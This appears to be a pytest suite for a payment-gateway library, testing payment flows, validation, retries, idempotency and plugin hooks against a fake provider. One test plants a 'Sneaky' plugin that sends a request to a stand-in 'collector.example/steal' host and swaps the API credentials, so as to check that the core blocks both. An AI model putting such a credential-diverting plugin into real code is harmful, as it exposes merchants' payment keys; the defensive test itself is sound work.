"""Both gateways drive the same provider flows: every hook, declines, retries, unknown outcomes.

The provider is ``fakepay`` (tests/fakepay.py): an in-memory PSP behind httpx.MockTransport.
"""

from __future__ import annotations

from collections.abc import Callable
from datetime import timedelta
from typing import Any

import attrs
import pytest

from psp_core import (
    AsyncGateway,
    AuthorizeRequest,
    CaptureMode,
    CaptureRequest,
    Consumer,
    DeclineCode,
    Gateway,
    IdempotencyConflictError,
    MandateChargeRequest,
    MandateRequest,
    MandateStatus,
    Money,
    OperationBlockedError,
    Payment,
    PaymentStatus,
    ProviderError,
    RateLimitedError,
    RefundRequest,
    RetryPolicy,
    RevokeMandateRequest,
    TransportError,
    UnknownProviderError,
    ValidationError,
    VoidRequest,
    hookimpl,
)
from tests.conftest import make_async_gateway, make_gateway
from tests.fakepay import DECLINE_AMOUNT, MAX_TEXT, FakePsp


def authorize_request(minor: int = 10_000, **changes: Any) -> AuthorizeRequest:
    request = AuthorizeRequest(
        amount=Money(minor, "EUR"),
        consumer=Consumer(country="DE", name="Erika Mustermann"),
        return_url="https://shop.example/return",
        merchant_reference="order-1",
        capture_mode=CaptureMode.SEPARATE,
    )
    return attrs.evolve(request, **changes)


class Both:
    """Runs a scenario through the sync and the async gateway alike."""

    def __init__(self, psp: FakePsp, kind: str) -> None:
        self.psp = psp
        self.kind = kind

    def call(self, method: str, *args: Any, retry: RetryPolicy | None = None, **kwargs: Any) -> Any:
        import anyio

        options = {"retry": retry} if retry else {}
        if self.kind == "sync":
            with make_gateway(self.psp, **options) as gw:
                return getattr(gw, method)(*args, **kwargs)

        async def run() -> Any:
            async with make_async_gateway(self.psp, **options) as agw:
                return await getattr(agw, method)(*args, **kwargs)

        return anyio.run(run)


@pytest.fixture(params=["sync", "async"])
def both(request: pytest.FixtureRequest, psp: FakePsp) -> Both:
    return Both(psp, request.param)


def test_a_payment_lives_authorize_approve_capture_twice_refund_twice(both: Both, psp: FakePsp) -> None:
    payment = both.call("authorize", authorize_request())
    assert payment.status is PaymentStatus.REQUIRES_ACTION
    assert payment.next_action is not None and payment.next_action.url.endswith(payment.id)

    psp.approve(payment.id)
    payment = both.call("get_payment", payment.id)
    assert payment.status is PaymentStatus.AUTHORIZED
    assert payment.authorized == Money(10_000, "EUR")

    payment = both.call("capture", CaptureRequest(payment, Money(4_000, "EUR"), idempotency_key="cap-1"))
    assert (payment.status, payment.captured) == (PaymentStatus.PARTIALLY_CAPTURED, Money(4_000, "EUR"))
    payment = both.call("capture", CaptureRequest(payment, idempotency_key="cap-2"))  # the rest
    assert (payment.status, payment.captured) == (PaymentStatus.CAPTURED, Money(10_000, "EUR"))

    payment = both.call("refund", RefundRequest(payment, Money(2_500, "EUR"), idempotency_key="ref-1"))
    assert (payment.status, payment.refunded) == (PaymentStatus.PARTIALLY_REFUNDED, Money(2_500, "EUR"))
    payment = both.call("refund", RefundRequest(payment, idempotency_key="ref-2"))
    assert (payment.status, payment.refunded) == (PaymentStatus.REFUNDED, Money(10_000, "EUR"))
    assert psp.effects == 5


def test_find_payment_by_merchant_reference(both: Both, psp: FakePsp) -> None:
    created = both.call("authorize", authorize_request(merchant_reference="order-77"))
    assert both.call("find_payment", "order-77").id == created.id
    assert both.call("find_payment", "order-unknown") is None


def test_a_decline_is_a_result_not_an_exception(both: Both, psp: FakePsp) -> None:
    payment = both.call("authorize", authorize_request(DECLINE_AMOUNT))
    psp.approve(payment.id)
    declined = both.call("get_payment", payment.id)
    assert declined.status is PaymentStatus.DECLINED
    assert declined.decline is not None
    assert (declined.decline.code, declined.decline.provider_code) == (DeclineCode.INSUFFICIENT_FUNDS, "NSF")


def test_void_releases_the_authorization(both: Both, psp: FakePsp) -> None:
    payment = both.call("authorize", authorize_request())
    psp.approve(payment.id)
    payment = both.call("get_payment", payment.id)
    payment = both.call("void", VoidRequest(payment, Money(1_000, "EUR")))
    assert (payment.status, payment.voided) == (PaymentStatus.AUTHORIZED, Money(1_000, "EUR"))
    payment = both.call("void", VoidRequest(payment))
    assert (payment.status, payment.voided) == (PaymentStatus.VOIDED, Money(10_000, "EUR"))


def test_mandates_create_approve_charge_revoke(both: Both, psp: FakePsp) -> None:
    from datetime import UTC, datetime

    mandate = both.call(
        "create_mandate",
        MandateRequest(
            consumer=Consumer(country="DE", name="Erika"),
            return_url="https://shop.example/return",
            start=datetime(2026, 1, 1, tzinfo=UTC),
            merchant_reference="sub-1",
        ),
    )
    assert mandate.status is MandateStatus.REQUIRES_ACTION
    psp.approve_mandate(mandate.id)
    assert both.call("get_mandate", mandate.id).status is MandateStatus.ACTIVE
    charge = MandateChargeRequest(mandate.id, Money(999, "EUR"), merchant_reference="sub-1-m1")
    payment = both.call("charge_mandate", charge)
    assert (payment.status, payment.captured) == (PaymentStatus.CAPTURED, Money(999, "EUR"))
    assert payment.mandate_id == mandate.id
    assert both.call("revoke_mandate", RevokeMandateRequest(mandate.id)).status is MandateStatus.REVOKED
    refused = both.call("charge_mandate", attrs.evolve(charge, merchant_reference="sub-1-m2"))
    assert refused.status is PaymentStatus.DECLINED
    assert refused.decline is not None and refused.decline.code is DeclineCode.MANDATE_REVOKED


# -- validation happens before any I/O ----------------------------------------------------------


INVALID_AUTHORIZE: list[tuple[str, Callable[[AuthorizeRequest], AuthorizeRequest]]] = [
    ("amount", lambda r: attrs.evolve(r, amount=Money(99, "EUR"))),
    ("amount", lambda r: attrs.evolve(r, amount=Money(1_000_001, "EUR"))),
    ("amount.currency", lambda r: attrs.evolve(r, amount=Money(1000, "USD"))),
    ("amount.minor", lambda r: attrs.evolve(r, amount=Money(-5, "EUR"))),
    ("amount", lambda r: attrs.evolve(r, amount=10.0)),
    ("consumer.country", lambda r: attrs.evolve(r, consumer=Consumer(country="US"))),
    ("return_url", lambda r: attrs.evolve(r, return_url="http://shop.example/return")),
    ("return_url", lambda r: attrs.evolve(r, return_url="not a url")),
    ("merchant_reference", lambda r: attrs.evolve(r, merchant_reference="")),
    ("merchant_reference", lambda r: attrs.evolve(r, merchant_reference="x" * (MAX_TEXT + 1))),
    ("webhook_url", lambda r: attrs.evolve(r, webhook_url="ftp://x")),
    # fakepay's consumer chooses on its page: a front-end token is refused, not ignored.
    ("payment_method_token", lambda r: attrs.evolve(r, payment_method_token="pm_123")),
]


@pytest.mark.parametrize(("field", "mutate"), INVALID_AUTHORIZE)
def test_invalid_requests_are_refused_naming_the_field_with_zero_requests_sent(
    both: Both, psp: FakePsp, field: str, mutate: Callable[[AuthorizeRequest], AuthorizeRequest]
) -> None:
    with pytest.raises(ValidationError) as caught:
        both.call("authorize", mutate(authorize_request()))
    assert caught.value.field == field
    assert field in str(caught.value)
    assert psp.requests == []


def _authorized(psp: FakePsp, gateway: Gateway) -> Payment:
    payment = gateway.authorize(authorize_request())
    psp.approve(payment.id)
    return gateway.get_payment(payment.id)


def test_capture_and_refund_above_what_remains_are_refused_before_sending(
    psp: FakePsp, gateway: Gateway
) -> None:
    payment = _authorized(psp, gateway)
    sent = len(psp.requests)
    with pytest.raises(ValidationError, match="more than the 100.00 EUR left to capture"):
        gateway.capture(CaptureRequest(payment, Money(10_001, "EUR")))
    with pytest.raises(ValidationError, match="payment.status"):
        gateway.refund(RefundRequest(payment, Money(1, "EUR")))
    captured = gateway.capture(CaptureRequest(payment, Money(5_000, "EUR")))
    sent = len(psp.requests)
    with pytest.raises(ValidationError, match="left to refund"):
        gateway.refund(RefundRequest(captured, Money(5_001, "EUR")))
    assert len(psp.requests) == sent


def test_another_providers_payment_is_refused_before_sending(psp: FakePsp, gateway: Gateway) -> None:
    payment = _authorized(psp, gateway)
    namesake = attrs.evolve(payment, provider="otherpay")  # the same id, another provider's payment
    captured = attrs.evolve(
        gateway.capture(CaptureRequest(payment, Money(5_000, "EUR"))), provider="otherpay"
    )
    sent = len(psp.requests)
    for call, request in (
        (gateway.capture, CaptureRequest(namesake)),
        (gateway.void, VoidRequest(namesake)),
        (gateway.refund, RefundRequest(captured)),
    ):
        with pytest.raises(ValidationError) as caught:
            call(request)  # type: ignore[operator]
        assert caught.value.field == "payment.provider" and "'otherpay'" in str(caught.value)
    assert len(psp.requests) == sent


def test_refund_after_the_window_is_refused_before_sending(psp: FakePsp, gateway: Gateway) -> None:
    payment = gateway.capture(CaptureRequest(_authorized(psp, gateway)))
    psp.now += timedelta(days=31)
    sent = len(psp.requests)
    with pytest.raises(ValidationError) as caught:
        gateway.refund(RefundRequest(payment))
    assert caught.value.field == "payment.captured_at"
    assert len(psp.requests) == sent


def test_an_unknown_provider_lists_the_installed_ones(psp: FakePsp) -> None:
    with pytest.raises(UnknownProviderError) as caught:
        Gateway(
            "stripe",
            plugins=[("fakepay", __import__("tests.fakepay").fakepay.FakePayPlugin())],
            load_entrypoints=False,
        )
    assert caught.value.installed == ("fakepay",)
    assert "fakepay" in str(caught.value)


# -- retries and unknown outcomes ---------------------------------------------------------------


def test_transient_failures_are_retried_with_the_same_idempotency_key(both: Both, psp: FakePsp) -> None:
    psp.faults = ["503", "429", "conflict"]
    payment = both.call("authorize", authorize_request(idempotency_key="k-1"))
    assert payment.status is PaymentStatus.REQUIRES_ACTION
    posts = [r for r in psp.requests if r.method == "POST"]
    assert len(posts) == 4
    assert {r.headers["Idempotency-Key"] for r in posts} == {"authorize:k-1"}
    assert psp.effects == 1


def test_a_dropped_answer_is_retried_with_the_same_key_and_takes_effect_once(
    both: Both, psp: FakePsp
) -> None:
    psp.faults = ["drop"]
    payment = both.call("authorize", authorize_request(idempotency_key="k-2"))
    assert payment.status is PaymentStatus.REQUIRES_ACTION
    assert psp.effects == 1
    assert len(psp.charges) == 1


def test_when_retries_run_out_after_the_request_may_have_landed_the_outcome_is_unknown(
    both: Both, psp: FakePsp
) -> None:
    psp.faults = ["drop"] * 2
    with pytest.raises(TransportError) as caught:
        both.call(
            "authorize", authorize_request(idempotency_key="k-3"), retry=RetryPolicy.no_wait(attempts=2)
        )
    assert caught.value.outcome_unknown is True
    assert caught.value.idempotency_key == "k-3"
    # Resuming with the key the error carries finds the one payment; nothing is charged twice.
    resumed = both.call("authorize", authorize_request(idempotency_key=caught.value.idempotency_key))
    assert len(psp.charges) == 1 and psp.effects == 1
    assert both.call("find_payment", "order-1").id == resumed.id


def test_a_generated_key_is_carried_by_the_unknown_outcome_error(both: Both, psp: FakePsp) -> None:
    psp.faults = ["drop"] * 2
    with pytest.raises(TransportError) as caught:
        both.call("authorize", authorize_request(), retry=RetryPolicy.no_wait(attempts=2))
    assert caught.value.idempotency_key  # generated, so the host can still resume with it
    both.call("authorize", authorize_request(idempotency_key=caught.value.idempotency_key))
    assert psp.effects == 1


def test_connection_refused_everywhere_is_not_an_unknown_outcome(both: Both, psp: FakePsp) -> None:
    psp.faults = ["connect"] * 2
    with pytest.raises(TransportError) as caught:
        both.call("authorize", authorize_request(), retry=RetryPolicy.no_wait(attempts=2))
    assert caught.value.outcome_unknown is False
    assert psp.effects == 0


def test_rate_limiting_that_outlasts_the_retries_is_a_rate_limited_error(both: Both, psp: FakePsp) -> None:
    psp.faults = ["429"] * 3
    with pytest.raises(RateLimitedError) as caught:
        both.call("authorize", authorize_request(), retry=RetryPolicy.no_wait(attempts=3))
    assert caught.value.retry_after == 0.0
    assert psp.effects == 0


def test_server_errors_that_outlast_the_retries_on_a_write_are_unknown_outcomes(
    both: Both, psp: FakePsp
) -> None:
    psp.faults = ["503"] * 2
    with pytest.raises(TransportError) as caught:
        both.call("authorize", authorize_request(), retry=RetryPolicy.no_wait(attempts=2))
    assert caught.value.outcome_unknown is True


def test_server_errors_on_a_read_are_provider_errors(both: Both, psp: FakePsp) -> None:
    psp.faults = ["503"] * 2
    with pytest.raises(ProviderError) as caught:
        both.call("get_payment", "ch_000001", retry=RetryPolicy.no_wait(attempts=2))
    assert caught.value.http_status == 503


def test_client_errors_are_not_retried(both: Both, psp: FakePsp) -> None:
    with pytest.raises(ProviderError) as caught:
        both.call("get_payment", "ch_missing")
    assert caught.value.http_status == 404
    assert len(psp.requests) == 1


def test_reusing_a_key_with_other_parameters_is_an_idempotency_conflict(both: Both, psp: FakePsp) -> None:
    both.call("authorize", authorize_request(idempotency_key="same"))
    with pytest.raises(IdempotencyConflictError):
        both.call("authorize", authorize_request(20_000, idempotency_key="same"))
    assert psp.effects == 1


def test_one_host_key_reused_across_operations_never_collides(psp: FakePsp, gateway: Gateway) -> None:
    payment = gateway.authorize(authorize_request(idempotency_key="order-1"))
    psp.approve(payment.id)
    payment = gateway.capture(CaptureRequest(gateway.get_payment(payment.id), idempotency_key="order-1"))
    assert payment.status is PaymentStatus.CAPTURED
    keys = [r.headers["Idempotency-Key"] for r in psp.requests if r.method == "POST"]
    # Scoped by operation and by the payment the capture acts on (issue #12, finding 5).
    assert keys == ["authorize:order-1", f"capture:{payment.id}:order-1"]


# -- observer hooks ---------------------------------------------------------------------------


class Recorder:
    def __init__(self) -> None:
        self.calls: list[tuple[str, str]] = []

    @hookimpl
    def psp_operation_started(self, provider: str, operation: str, request: object) -> None:
        self.calls.append(("started", operation))

    @hookimpl
    def psp_operation_completed(self, provider: str, operation: str, request: object, result: object) -> None:
        self.calls.append(("completed", operation))

    @hookimpl
    def psp_operation_failed(
        self, provider: str, operation: str, request: object, error: BaseException
    ) -> None:
        self.calls.append(("failed", type(error).__name__))


class Veto:
    @hookimpl
    def psp_operation_started(self, provider: str, operation: str, request: object) -> None:
        if (
            operation == "authorize"
            and isinstance(request, AuthorizeRequest)
            and request.amount.minor > 50_000
        ):
            raise OperationBlockedError("amount above the shop's risk limit", blocked_by="risk")


def _gateway_with(psp: FakePsp, *extra: tuple[str, object]) -> Gateway:
    from tests.fakepay import FakePayPlugin

    return Gateway(
        "fakepay",
        options={"api_key": psp.api_key},
        transport=psp.transport(),
        plugins=[("fakepay", FakePayPlugin()), *extra],
        load_entrypoints=False,
        retry=RetryPolicy.no_wait(),
    )


def test_observers_see_every_operation_start_and_end(psp: FakePsp) -> None:
    recorder = Recorder()
    with _gateway_with(psp, ("audit", recorder)) as gw:
        gw.authorize(authorize_request())
        with pytest.raises(ProviderError):
            gw.get_payment("ch_missing")
    assert recorder.calls == [
        ("started", "authorize"),
        ("completed", "authorize"),
        ("started", "get_payment"),
        ("failed", "ProviderError"),
    ]


def test_a_risk_plugin_vetoes_before_anything_is_sent(psp: FakePsp) -> None:
    with _gateway_with(psp, ("risk", Veto())) as gw:
        with pytest.raises(OperationBlockedError, match="risk limit"):
            gw.authorize(authorize_request(60_000))
        assert psp.requests == []
        assert gw.authorize(authorize_request(40_000)).status is PaymentStatus.REQUIRES_ACTION


def test_an_observer_implementing_a_provider_hook_is_never_called_for_the_provider(psp: FakePsp) -> None:
    class Intruder:
        @hookimpl
        def psp_authorize(self, config: object, request: object) -> object:
            raise AssertionError("another plugin's provider hook must not run")

    with _gateway_with(psp, ("intruder", Intruder())) as gw:
        assert gw.authorize(authorize_request()).provider == "fakepay"


async def _async_smoke(psp: FakePsp) -> Payment:
    async with make_async_gateway(psp) as agw:
        assert isinstance(agw, AsyncGateway)
        return await agw.authorize(authorize_request())


@pytest.mark.anyio
async def test_the_async_gateway_runs_inside_an_event_loop(psp: FakePsp) -> None:
    payment = await _async_smoke(psp)
    assert payment.status is PaymentStatus.REQUIRES_ACTION


# -- what the core must never do, whatever the provider or the plugins do ----------------------------


@pytest.mark.parametrize("after", ["429", "409", "503"])
def test_an_answer_lost_after_the_write_landed_stays_an_unknown_outcome_whatever_follows(
    both: Both, psp: FakePsp, after: str
) -> None:
    """A 429 (or an unrecognised 409) on the resend must not hide that the first try may have landed."""
    psp.faults = ["drop", after, after]
    with pytest.raises(TransportError) as caught:
        both.call("authorize", authorize_request(), retry=RetryPolicy.no_wait(attempts=3))
    assert caught.value.outcome_unknown is True
    assert caught.value.idempotency_key
    assert psp.effects == 1
    both.call("authorize", authorize_request(idempotency_key=caught.value.idempotency_key))
    assert psp.effects == 1


def test_a_broken_answer_to_a_write_is_an_unknown_outcome_not_a_raw_httpx_error(psp: FakePsp) -> None:
    import httpx

    def broken(request: httpx.Request) -> httpx.Response:
        psp.handle(request)  # the PSP acts...
        raise httpx.DecodingError("garbled gzip", request=request)  # ...and the answer is unreadable

    from tests.fakepay import FakePayPlugin

    gateway = Gateway(
        "fakepay",
        options={"api_key": psp.api_key},
        transport=httpx.MockTransport(broken),
        plugins=[("fakepay", FakePayPlugin())],
        load_entrypoints=False,
        retry=RetryPolicy.no_wait(attempts=1),
    )
    with gateway, pytest.raises(TransportError) as caught:
        gateway.authorize(authorize_request())
    assert caught.value.outcome_unknown is True
    assert psp.effects == 1


class BrokenObserver:
    @hookimpl
    def psp_operation_completed(self, provider: str, operation: str, request: object, result: object) -> None:
        raise RuntimeError("statsd is down")

    @hookimpl
    def psp_operation_failed(
        self, provider: str, operation: str, request: object, error: BaseException
    ) -> None:
        raise RuntimeError("audit log is full")


def test_a_broken_observer_never_turns_a_charge_into_an_exception_nor_hides_an_error(psp: FakePsp) -> None:
    with _gateway_with(psp, ("metrics", BrokenObserver())) as gw:
        assert gw.authorize(authorize_request()).status is PaymentStatus.REQUIRES_ACTION
        psp.faults = ["drop"] * 4
        with pytest.raises(TransportError) as caught:
            gw.authorize(authorize_request(merchant_reference="order-2"))
    assert caught.value.outcome_unknown is True


def test_a_flow_cannot_replace_the_configured_credentials_nor_send_them_elsewhere(psp: FakePsp) -> None:
    import httpx

    from psp_core import ConfigurationError, Flow, ProviderResponseError

    class Sneaky(__import__("tests.fakepay").fakepay.FakePayPlugin):  # type: ignore[misc]
        @hookimpl
        def psp_get_payment(self, config: object, payment_id: str) -> Flow[Payment]:
            if payment_id == "elsewhere":
                yield httpx.Request("GET", "https://collector.example/steal")
            response = yield httpx.Request(
                "GET", f"/charges/{payment_id}", headers={"Authorization": "Bearer x"}
            )
            # The message is checked, not the header itself: the redactor masks the key in errors.
            raise AssertionError(str(response.request.headers["Authorization"] == f"Bearer {psp.api_key}"))

    gw = Gateway(
        "fakepay",
        options={"api_key": psp.api_key},
        transport=psp.transport(),
        plugins=[("fakepay", Sneaky())],
        load_entrypoints=False,
        retry=RetryPolicy.no_wait(),
    )
    with gw:
        with pytest.raises(ConfigurationError, match=r"collector\.example"):
            gw.get_payment("elsewhere")
        assert psp.requests == []
        # A plugin's own exception reaches the host inside the error tree, its text kept.
        with pytest.raises(ProviderResponseError) as sent:
            gw.get_payment("ch_1")
    assert "(AssertionError: True)" in str(sent.value)
